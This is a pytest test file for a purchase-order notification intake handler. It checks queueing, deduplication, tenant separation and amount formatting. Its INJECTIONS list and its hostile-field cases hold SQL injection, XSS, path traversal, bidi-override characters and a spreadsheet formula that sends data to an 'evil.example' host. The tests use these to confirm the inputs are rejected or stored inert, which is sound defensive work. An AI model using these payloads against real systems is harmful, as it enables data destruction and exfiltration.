"""`handle_po_event` against a real database and the real notice facade."""

from __future__ import annotations

import json
import threading
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from core.keys import po_notice_key
from core.models import MessageStatus, Supplier
from core.po_events.intake import IntakeResult, handle_po_event
from tests.core.po_events.conftest import TENANT, body_parameters, outbox, po_event


def test_an_event_queues_one_pending_notice_with_the_po_key(po_templates: Engine) -> None:
    event = po_event(document_url=None)
    result = handle_po_event(json.dumps(event).encode(), engine=po_templates, source="http")
    assert result.status == "enqueued" and result.message_id
    assert (result.event_id, result.tenant_id, result.po_number) == (
        event["event_id"], TENANT, "4500012345",
    )  # fmt: skip
    [row] = outbox(po_templates)
    assert row.id == result.message_id
    assert row.status == MessageStatus.PENDING
    assert row.template_name == "po_notification" and row.template_language == "es"
    assert row.recipient_phone == "+34612345678"
    assert row.idempotency_key == po_notice_key("4500012345", "+34612345678", "po_notification")
    assert row.po_number == "4500012345" and row.po_id == "98121"
    assert body_parameters(row) == {
        "supplier_name": "Aceros del Norte S.L.",
        "po_number": "4500012345",
        "total_amount": "1.234,50 €",
        "currency": ("EUR", 1234500),
    }
    assert row.body_text is not None and "1.234,50 €" in row.body_text
    assert row.created_by == f"erp event {event['event_id']}"


def test_the_amount_is_written_in_the_suppliers_language(po_templates: Engine) -> None:
    event = po_event(total={"amount": "1234.50", "currency": "EUR"})
    event["supplier"]["language"] = "en"
    assert handle_po_event(event, engine=po_templates, source="http").status == "enqueued"
    [row] = outbox(po_templates)
    assert row.template_language == "en"
    assert body_parameters(row)["total_amount"] == "€1,234.50"


def test_a_replay_or_redelivery_is_a_duplicate_and_sends_nothing_new(
    po_templates: Engine,
) -> None:
    event = po_event()
    first = handle_po_event(event, engine=po_templates, source="rabbitmq")
    again = handle_po_event(event, engine=po_templates, source="rabbitmq")
    replay = handle_po_event(po_event(event_id="evt-replayed"), engine=po_templates, source="http")
    assert first.status == "enqueued"
    assert again.status == replay.status == "duplicate"
    assert again.message_id == replay.message_id == first.message_id
    assert again.reason is not None and "already notified" in again.reason
    assert len(outbox(po_templates)) == 1


def test_the_same_po_in_another_tenant_is_another_notice(po_templates: Engine) -> None:
    from core.sandbox.catalog import DEFAULT_TEMPLATE_FIELDS, default_templates
    from core.templates import upsert_templates

    upsert_templates(
        po_templates, "other", [t.as_graph(DEFAULT_TEMPLATE_FIELDS) for t in default_templates()]
    )
    a = handle_po_event(po_event(), engine=po_templates, source="http")
    b = handle_po_event(po_event(tenant_id="other"), engine=po_templates, source="http")
    assert a.status == b.status == "enqueued" and a.message_id != b.message_id


def test_a_malformed_event_is_rejected_and_writes_nothing(po_templates: Engine) -> None:
    result = handle_po_event(b'{"event_id": "e", "po": []}', engine=po_templates, source="http")
    assert result.status == "rejected" and result.message_id is None
    assert "po must be an object" in result.problems
    assert result.reason == "; ".join(result.problems)
    assert outbox(po_templates) == []


def test_an_invalid_phone_is_rejected_by_the_facade(po_templates: Engine) -> None:
    event = po_event()
    event["supplier"]["phone"] = "+34 12"
    result = handle_po_event(event, engine=po_templates, source="rabbitmq")
    assert result.status == "rejected"
    assert result.event_id == event["event_id"] and result.po_number == "4500012345"
    assert result.reason == "+34 12 is too short for Spain"
    assert outbox(po_templates) == []


def test_an_event_for_a_tenant_without_the_template_is_rejected(engine: Engine) -> None:
    result = handle_po_event(po_event(), engine=engine, source="rabbitmq")
    assert result.status == "rejected"
    assert "There is no template 'po_notification'" in (result.reason or "")
    assert outbox(engine) == []


def test_an_amount_written_as_a_json_number_is_exact(po_templates: Engine) -> None:
    body = json.dumps(po_event()).replace('"1234.50"', "0.10").encode()
    assert handle_po_event(body, engine=po_templates, source="http").status == "enqueued"
    [row] = outbox(po_templates)
    assert body_parameters(row)["currency"] == ("EUR", 100)


def test_the_same_event_handled_at_once_by_many_workers_is_one_notice(
    po_templates: Engine,
) -> None:
    """Redeliveries can overlap (prefetch, several consumers): every copy must end as
    enqueued or duplicate, never as an error, and only one row may exist."""
    event = po_event()
    workers = 8
    barrier = threading.Barrier(workers)

    def handle() -> IntakeResult:
        barrier.wait()
        return handle_po_event(event, engine=po_templates, source="rabbitmq")

    with ThreadPoolExecutor(workers) as pool:
        results = list(pool.map(lambda _: handle(), range(workers)))
    assert sorted(r.status for r in results) == ["duplicate"] * (workers - 1) + ["enqueued"]
    assert len({r.message_id for r in results}) == 1
    assert len(outbox(po_templates)) == 1


INJECTIONS = [
    "Robert'); DROP TABLE whatsapp_messages; --",
    "{{1}} {{supplier_name}} {{total_amount}}",
    "<script>alert('x')</script>",
    "Ñandú 🐦 株式会社",
    "Ana = Bea + Co",  # an equals sign inside a name is not a formula
    "x" * 200,
]


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_hostile_text_is_stored_and_sent_as_plain_text(po_templates: Engine, hostile: str) -> None:
    """SQL, template placeholders and markup in the supplier's name are data:
    the row holds them verbatim, they reach the supplier as literal text, nothing else
    is touched."""
    event = po_event()
    event["supplier"]["name"] = hostile
    result = handle_po_event(json.dumps(event), engine=po_templates, source="http")
    assert result.status == "enqueued", result.reason
    [row] = outbox(po_templates)
    assert body_parameters(row)["supplier_name"] == hostile
    assert row.body_text is not None and hostile in row.body_text
    assert "{{" not in row.body_text.replace(hostile, "")  # no placeholder left unfilled
    with Session(po_templates) as session:
        supplier = session.exec(select(Supplier)).one()
    assert supplier.name == hostile
    # The table the SQL string names is still there and still has exactly this row.
    assert handle_po_event(json.dumps(event), engine=po_templates, source="http").status == (
        "duplicate"
    )


@pytest.mark.parametrize(
    ("where", "value", "expected"),
    [
        ("po.number", "PO-1\nBCC: everyone", None),  # newlines collapse to one line
        ("po.number", "45\x00001", "must not contain control characters"),
        ("po.number", {"$ne": None}, "po.number must be text"),
        ("tenant_id", "acme' OR '1'='1", "tenant_id: must be letters"),
        ("tenant_id", "../other", "tenant_id: must be letters"),
        ("supplier.phone", "+34 612 345 678; DROP TABLE suppliers", "supplier.phone"),
        ("supplier.phone", ["+34612345678"], "supplier.phone must be text"),
        ("supplier.language", "es'; --", "is not a language code"),
        ("total.currency", "ZZZ", "'ZZZ' is not a currency code"),
        ("total.currency", "XXX", "not a currency any country pays in"),
        ("total.amount", {"value": 1}, "total.amount: must be a number"),
        ("total.amount", "1e400", "not a number"),
        ("total.amount", "9" * 5000, "is 5,000 characters long; that is not an amount"),
        ("event_id", "e" * 129, "event_id is too long"),
        ("document_url", "javascript:alert(1)", "document_url: must be an http(s) URL"),
        (
            "supplier.name",
            "A\u202eLIAME\u200b",
            "supplier.name: contains a right-to-left override (U+202E) at position 2",
        ),
        ("supplier.name", "\u202eFDP.exe", "(U+202E) at position 1"),
        (
            "supplier.name",
            '=HYPERLINK("http://evil.example/?"&A1)',
            "supplier.name: starts with '=' like a spreadsheet formula",
        ),
        ("supplier.name", "@SUM(A1)", "like a spreadsheet formula"),
        ("po.number", "=1+2", "po.number: starts with '=' like a spreadsheet formula"),
        (
            "po.number",
            "45\u200b001",
            "po.number: contains a zero-width space (U+200B) at position 3",
        ),
        ("po.number", "\u2067450\u2069", "right-to-left isolate (U+2067) at position 1"),
    ],
)
def test_hostile_fields_are_rejected_with_the_reason_or_made_harmless(
    po_templates: Engine, where: str, value: Any, expected: str | None
) -> None:
    event = po_event()
    target: dict[str, Any] = event
    *parents, leaf = where.split(".")
    for parent in parents:
        target = target[parent]
    target[leaf] = value
    result = handle_po_event(json.dumps(event), engine=po_templates, source="rabbitmq")
    if expected is None:
        assert result.status == "enqueued"
        [row] = outbox(po_templates)
        assert row.po_number == "PO-1 BCC: everyone"
        return
    assert result.status == "rejected"
    assert any(expected in problem for problem in result.problems), result.problems
    assert outbox(po_templates) == []


def test_an_unknown_currency_in_a_valid_event_writes_nothing(po_templates: Engine) -> None:
    event = po_event(total={"amount": "10.00", "currency": "BTC"})
    result = handle_po_event(event, engine=po_templates, source="http")
    assert result.status == "rejected"
    assert result.problems == ("total.currency: 'BTC' is not a currency code (use e.g. EUR, USD)",)
    with Session(po_templates) as session:
        assert session.exec(select(Supplier)).all() == []  # no half-written supplier either


def test_without_a_language_the_suppliers_stored_one_is_used(po_templates: Engine) -> None:
    """An ERP that does not know the supplier's language: wanotify's own record decides
    (here English, from an earlier notice), and a new supplier gets Spanish."""
    known = po_event(po={"id": "1", "number": "PO-EN-1"})
    known["supplier"]["language"] = "en"
    assert handle_po_event(known, engine=po_templates, source="http").status == "enqueued"
    later = po_event(po={"id": "2", "number": "PO-EN-2"})
    later["supplier"]["language"] = None
    new = po_event(po={"id": "3", "number": "PO-ES-3"})
    new["supplier"].update(language="", phone="+34 622 333 444", name="Nuevo")
    assert handle_po_event(later, engine=po_templates, source="http").status == "enqueued"
    assert handle_po_event(new, engine=po_templates, source="http").status == "enqueued"
    by_po = {row.po_number: row for row in outbox(po_templates)}
    assert by_po["PO-EN-2"].template_language == "en"
    assert body_parameters(by_po["PO-EN-2"])["total_amount"] == "€1,234.50"
    assert by_po["PO-ES-3"].template_language == "es"
    assert body_parameters(by_po["PO-ES-3"])["total_amount"] == "1.234,50 €"


def test_amounts_in_other_currencies_follow_the_currency_and_language(
    po_templates: Engine,
) -> None:
    event = po_event(total={"amount": "98765", "currency": "JPY"})
    event["supplier"]["language"] = "en"
    assert handle_po_event(event, engine=po_templates, source="http").status == "enqueued"
    [row] = outbox(po_templates)
    assert body_parameters(row)["total_amount"] == "¥98,765"
    assert body_parameters(row)["currency"] == ("JPY", 98765000)


@pytest.mark.parametrize("source", ["http", "rabbitmq"])
def test_hidden_characters_and_formulas_from_an_erp_write_nothing(
    po_templates: Engine, source: str
) -> None:
    for name, number in [("A\u202eLIAME\u200b", "PO-H1"), ("Ana", "=1+2")]:
        event = po_event()
        event["supplier"]["name"], event["po"]["number"] = name, number
        result = handle_po_event(json.dumps(event).encode(), engine=po_templates, source=source)
        assert result.status == "rejected" and len(result.problems) == 1, result.problems
    assert outbox(po_templates) == []
    with Session(po_templates) as session:
        assert session.exec(select(Supplier)).all() == []


def test_non_breaking_spaces_from_an_erp_are_sent_as_one_space(po_templates: Engine) -> None:
    event = po_event()
    event["supplier"]["name"] = "Aceros\u00a0\u00a0del\u202fNorte"
    event["po"]["number"] = "4500\u00a0012345"
    assert handle_po_event(event, engine=po_templates, source="http").status == "enqueued"
    [row] = outbox(po_templates)
    assert body_parameters(row)["supplier_name"] == "Aceros del Norte"
    assert row.po_number == "4500 012345"
